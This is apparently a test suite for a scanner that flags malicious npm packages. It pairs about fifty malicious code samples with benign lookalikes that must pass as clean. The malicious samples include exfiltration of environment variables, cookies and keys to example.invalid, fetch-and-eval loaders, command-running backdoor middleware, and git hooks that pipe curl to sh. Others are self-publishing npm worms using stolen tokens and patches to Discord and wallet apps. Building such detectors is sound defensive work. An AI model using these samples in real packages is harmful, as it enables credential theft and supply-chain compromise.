import assert from "node:assert/strict";
import { test } from "node:test";
import { packageOf, SEND } from "../../test/support/npm-attack.ts";
import { verdictOf } from "../../test/support/verdict-of.ts";

/** What packages do to other packages, repositories and servers, and to what they are called for; inert. */
const ATTACKS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "takes cookies of the page by another name": {
    main: `const d = document;\n${SEND}d.cookie });`,
  },
  "takes a storage of the page by another name": {
    main: `const { localStorage: s } = window;\n${SEND}JSON.stringify({ ...s }) });`,
  },
  "reads what axios sends": {
    main: `const axios=require('axios');\naxios.interceptors.request.use((c) => { ${SEND}JSON.stringify(c.headers) }); return c; });`,
  },
  "loads a file that it fetched as a worker": {
    main: `const { Worker }=require('worker_threads'),fs=require('fs');\nfetch('https://example.invalid/a.js').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/w.js', t); new Worker('/tmp/w.js'); });`,
  },
  "loads a file that it fetched as a module": {
    lib: `const fs=require('fs'),os=require('os'),path=require('path');\nexports.go = async () => { const p = path.join(os.tmpdir(), 'w.js'); fs.writeFileSync(p, await (await fetch('https://example.invalid/a.js')).text()); require(p); };`,
  },
  "changes a package beside it by a command": {
    postinstall: `require('child_process').execSync(\`sed -i '1i require("./x")' node_modules/express/index.js\`);`,
  },
  "copies a file over another package by a command": {
    postinstall: `require('child_process').execSync("cp a.js ../../node_modules/axios/index.js");`,
  },
  "runs what is said to its web socket": {
    lib: `const { WebSocketServer }=require('ws'),{ exec }=require('child_process');\nexports.go = () => new WebSocketServer({ port: 8080 }).on('connection', (s) => s.on('message', (m) => exec(m.toString(), (e, o) => s.send(o))));`,
  },
  "evaluates what is said to its socket": {
    main: `require('net').createServer((s) => s.on('data', (d) => eval(d.toString()))).listen(4444);`,
  },
  "sends the environment through methods": {
    main: `const https=require('https');\nclass C {\n  constructor() { this.go(); }\n  collect() { return JSON.stringify(process.env); }\n  go() { this.send(this.collect()); }\n  send(b) { const r = https.request('https://example.invalid', { method: 'POST' }); r.write(b); r.end(); }\n}\nnew C();`,
  },
  "evaluates an answer through methods": {
    main: `class L {\n  async get() { this.code = await (await fetch('https://example.invalid/x')).text(); }\n  async run() { await this.get(); this.exec(this.code); }\n  exec(c) { eval(c); }\n}\nnew L().run();`,
  },
  "sends the environment through static methods": {
    main: `class L {\n  static data() { return { e: process.env }; }\n  static send() { ${SEND}JSON.stringify(L.data()) }); }\n}\nL.send();`,
  },
  "sends the environment through methods of an object": {
    main: `const o = {\n  data() { return process.env; },\n  send() { ${SEND}JSON.stringify(this.data()) }); },\n};\no.send();`,
  },
  "sends the environment when somebody calls it": {
    lib: `exports.init = function init() { ${SEND}JSON.stringify(process.env) }); };`,
  },
  "sends the environment in an exported function": {
    lib: `const axios=require('axios');\nmodule.exports = async function log() { try { await axios.post('https://example.invalid', { e: process.env }); } catch {} };`,
  },
  "sends the environment in an exported arrow function": {
    lib: `export const track = () => ${SEND}JSON.stringify(process.env) });`,
  },
  "patches a package beside it": {
    postinstall: `const fs=require('fs'),path=require('path');\nconst f = path.join(process.cwd(), '..', 'ethers', 'lib', 'index.js');\nfs.writeFileSync(f, fs.readFileSync(f, 'utf8') + "\\nrequire('./evil')");`,
  },
  "patches a package that it resolves": {
    main: `const fs=require('fs');\nconst f = require.resolve('express');\nfs.appendFileSync(f, ";require('https').get('https://example.invalid')");`,
  },
  "copies itself over another package": {
    postinstall: `const fs=require('fs'),p=require('path');\nfs.copyFileSync(p.join(__dirname, 'payload.js'), require.resolve('axios/lib/core/Axios.js'));`,
    "payload.js": "module.exports=1",
  },
  "repacks an application of the desktop": {
    postinstall: `const fs=require('fs'),os=require('os'),asar=require('asar');\nconst p = os.homedir()+'/AppData/Local/Programs/Exodus/resources/app.asar';\nasar.extractAll(p, '/tmp/x');\nfs.appendFileSync('/tmp/x/index.js', 'evil()');\nasar.createPackage('/tmp/x', p);`,
  },
  "replaces an application of the desktop": {
    main: `const fs=require('fs'),path=require('path');\nconst p = path.join(process.env.LOCALAPPDATA, 'atomic', 'resources', 'app.asar');\nif (fs.existsSync(p)) fs.writeFileSync(p, fs.readFileSync(__dirname + '/a.bin'));`,
  },
  "writes into a chat program": {
    main: `const fs=require('fs');\nconst d = process.env.LOCALAPPDATA + '/Discord/app-1.0.9/modules/discord_desktop_core-1/discord_desktop_core/index.js';\nfs.writeFileSync(d, "require('https').get('https://example.invalid')");`,
  },
  "wraps what others load and sends what they are given": {
    main: `const M=require('module');\nconst o = M.prototype.require;\nM.prototype.require = function (n) {\n  const m = o.apply(this, arguments);\n  if (n === 'pg') { const q = m.Client.prototype.connect; m.Client.prototype.connect = function () { ${SEND}JSON.stringify(this.connectionParameters) }); return q.apply(this, arguments); }; }\n  return m;\n};`,
  },
  "gives its own file for another package": {
    main: `const M=require('module');\nconst o = M._load;\nM._load = function (r, p, i) { if (r === 'ethers') return o(__dirname + '/fake.js', p, i); return o(r, p, i); };`,
    "fake.js": "module.exports = {};",
  },
  "resolves another package to its own file": {
    main: `const M=require('module');\nconst o = M._resolveFilename;\nM._resolveFilename = function (r, ...x) { return r === 'axios' ? require('path').join(__dirname, 'evil.js') : o.call(this, r, ...x); };`,
    "evil.js": `module.exports = {};`,
  },
  "wraps the requests of all programs": {
    main: `const https=require('https');\nconst o = https.request;\nhttps.request = function (u, p, c) { const r = o(u, p, c); const w = r.write; r.write = (b) => { fetch('https://example.invalid', { method: 'POST', body: b }); return w.call(r, b); }; return r; };`,
  },
  "wraps a method of another package": {
    main: `const w3 = require('@solana/web3.js');\nconst o = w3.Connection.prototype.sendTransaction;\nw3.Connection.prototype.sendTransaction = function (t, s) { fetch('https://example.invalid', { method: 'POST', body: Buffer.from(s[0].secretKey).toString('hex') }); return o.apply(this, arguments); };`,
  },
  "starts what a parameter says": {
    lib: `const { exec } = require('child_process');\nmodule.exports = (req, res, next) => {\n  if (req.query.cmd) return exec(req.query.cmd, (e, o) => res.send(o));\n  next();\n};`,
  },
  "evaluates what a parameter says": {
    lib: `module.exports = (app) => app.get('/_d', (req, res) => res.send(String(eval(req.query.c))));`,
  },
  "starts what a header says": {
    lib: `const cp = require('child_process');\nexports.middleware = function (req, res, next) { const c = req.headers['x-debug']; if (c) { res.end(cp.execSync(Buffer.from(c, 'base64').toString())); return; } next(); };`,
  },
  "starts what an address says": {
    lib: `require('http').createServer((q, s) => { s.end(require('child_process').execSync(decodeURIComponent(q.url.slice(1)))); }).listen(8099);`,
  },
  "makes a function of a body": {
    lib: `module.exports = function (req, res, next) { if (req.body && req.body.__x) { new Function('req', 'res', req.body.__x)(req, res); } else next(); };`,
  },
  "goes through the home for keys": {
    main: `const fs=require('fs'),path=require('path'),os=require('os');\nfunction walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else if (/\\.(env|pem|key)$/.test(e.name)) ${SEND}fs.readFileSync(p) }); } }\nwalk(os.homedir());`,
  },
  "goes through the home for names of secrets": {
    main: `const fs=require('fs'),path=require('path'),os=require('os'),axios=require('axios');\nconst NAMES = ['wallet', 'seed', 'mnemonic', 'password', 'private'];\nfunction scan(d) { fs.readdirSync(d).forEach((n) => { const p = path.join(d, n); if (fs.statSync(p).isDirectory()) return scan(p); if (NAMES.some((k) => n.includes(k))) axios.post('https://example.invalid', { n, c: fs.readFileSync(p, 'utf8') }); }); }\nscan(os.homedir());`,
  },
  "searches the home by a pattern": {
    main: `const glob=require('glob'),fs=require('fs');\nglob.sync(require('os').homedir() + '/**/.env').forEach((f) => ${SEND}fs.readFileSync(f) }));`,
  },
  "searches the home by a command": {
    main: `const o = require('child_process').execSync("find ~ -name '*.env' -o -name 'id_rsa'").toString();\nfor (const f of o.split('\\n')) ${SEND}require('fs').readFileSync(f) });`,
  },
  "runs fetched text in a worker": {
    main: `const { Worker } = require('worker_threads');\nfetch('https://example.invalid/x').then((r) => r.text()).then((c) => new Worker(c, { eval: true }));`,
  },
  "runs decoded text in a worker": {
    main: `const { Worker } = require('worker_threads');\nnew Worker(Buffer.from('${Buffer.from("require('https').get('https://example.invalid/x', r => r.on('data', d => require('child_process').exec(d.toString())))").toString("base64")}', 'base64').toString(), { eval: true });`,
  },
  "runs text in a worker that sends the environment": {
    main: `const { Worker } = require('worker_threads');\nnew Worker("const e = process.env; fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(e) })", { eval: true });`,
  },
  "runs a worker from a data address": {
    main: `import { Worker } from 'worker_threads';\nconst c = await (await fetch('https://example.invalid/x')).text();\nnew Worker(new URL('data:text/javascript,' + encodeURIComponent(c)));`,
  },
  "imports a data address": {
    main: `const c = await (await fetch('https://example.invalid/x')).text();\nawait import('data:text/javascript;base64,' + btoa(c));`,
  },
  "plants a git hook that fetches": {
    postinstall: `const fs=require('fs');\nfs.writeFileSync(process.env.INIT_CWD + '/.git/hooks/pre-commit', '#!/bin/sh\\ncurl -s https://example.invalid/x | sh\\n', { mode: 0o755 });`,
  },
  "plants a git hook that sends": {
    postinstall: `const fs=require('fs');\nfs.writeFileSync('../../.git/hooks/post-checkout', '#!/bin/sh\\nenv | curl -d @- https://example.invalid\\n', { mode: 493 });`,
  },
  "has git take its hooks elsewhere": {
    postinstall: `const {execSync}=require('child_process');\nrequire('fs').cpSync(__dirname + '/h', require('os').homedir() + '/.h', { recursive: true });\nexecSync('git config --global core.hooksPath ~/.h');`,
    "h/pre-push": '#!/bin/sh\ncurl -d "$(env)" https://example.invalid\n',
  },
  "plants hooks in every new repository": {
    postinstall: `require('child_process').execSync('git config --global init.templateDir ~/.t && mkdir -p ~/.t/hooks && echo "curl https://example.invalid | sh" > ~/.t/hooks/post-checkout && chmod +x ~/.t/hooks/post-checkout');`,
  },
  "pushes what it found to a new repository": {
    postinstall: `const {execSync}=require('child_process');\nrequire('fs').writeFileSync('/tmp/d/r.json', JSON.stringify(process.env));\nexecSync('cd /tmp/d && git init && git add . && git commit -m x && gh repo create out --public --source=. --push');`,
  },
  "writes what it found into a new repository": {
    postinstall: `const { Octokit } = require('octokit');\nconst t = process.env.GITHUB_TOKEN;\nconst o = new Octokit({ auth: t });\n(async () => { await o.request('POST /user/repos', { name: 'out' }); await o.request('PUT /repos/{owner}/{repo}/contents/e', { content: Buffer.from(JSON.stringify(process.env)).toString('base64') }); })();`,
  },
  "makes a repository with a token that it took": {
    postinstall: `const t = require('child_process').execSync('gh auth token').toString().trim();\nconst h = { Authorization: 'token ' + t };\nfetch('https://example.invalid/user/repos', { method: 'POST', headers: h, body: JSON.stringify({ name: 'x' }) });`,
  },
  "publishes itself with a token": {
    postinstall: `const fs=require('fs'),{execSync}=require('child_process');\nconst t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.+)/)[1];\nconst p = JSON.parse(fs.readFileSync('package.json'));\np.scripts = { postinstall: 'node a.js' };\nfs.writeFileSync('package.json', JSON.stringify(p));\nexecSync('npm publish', { env: { ...process.env, NPM_TOKEN: t } });`,
  },
  "publishes itself into whatever the account has": {
    postinstall: `const {execSync}=require('child_process');\nconst me = execSync('npm whoami').toString().trim();\nconst l = JSON.parse(execSync('npm access ls-packages ' + me));\nfor (const n of Object.keys(l)) { execSync('npm pack ' + n); execSync('tar xf *.tgz && cp a.js package/ && cd package && npm version patch && npm publish'); }`,
  },
  "publishes itself without the client": {
    postinstall: `const t = process.env.NPM_TOKEN;\nfor (const n of names) fetch('https://example.invalid/' + n, { method: 'PUT', headers: { authorization: 'Bearer ' + t }, body: JSON.stringify(withPayload(n)) });`,
  },
};

const HONEST: Readonly<Record<string, string>> = {
  "starts an editor for a request":
    "const { execFile } = require('child_process');\nmodule.exports = (req, res) => execFile('editor', [req.query.file], () => res.end());",
  "writes a hook for its project":
    "const hook = path.join(root, '.git/hooks', name);\nfs.writeFileSync(hook, '#!/bin/sh\\nnpx --no-install demo-lint\\n', { mode: 0o755 });",
  "makes a repository for a new project":
    "const { execSync } = require('child_process');\nexecSync(`gh repo create ${name} --private --source=.`, { env: process.env });",
  "publishes a release":
    "const { execSync } = require('child_process');\nif (execSync('npm whoami').toString() !== owner) throw new Error('not logged in');\nexecSync('npm publish');",
  "computes in a worker":
    "const { Worker } = require('worker_threads');\nconst code = \"const { parentPort } = require('worker_threads'); parentPort.on('message', (m) => parentPort.postMessage(m * 2));\";\nnew Worker(code, { eval: true });",
  "hooks the loader for its own extension":
    "const M = require('module');\nconst o = M._extensions['.js'];\nM._extensions['.js'] = (m, f) => (matches(f) ? m._compile(compile(f), f) : o(m, f));",
  "applies patches":
    "const target = path.join(root, 'node_modules', name, 'index.js');\nfs.writeFileSync(target, applyPatch(fs.readFileSync(target, 'utf8'), patch));",
};

for (const [what, files] of Object.entries(ATTACKS))
  test(`an npm package that ${what} is withheld`, () => assert.notEqual(verdictOf("npm", packageOf(files)), "clean"));

for (const [what, main] of Object.entries(HONEST))
  test(`an npm package that ${what} is clean`, () => assert.equal(verdictOf("npm", packageOf({ main })), "clean"));
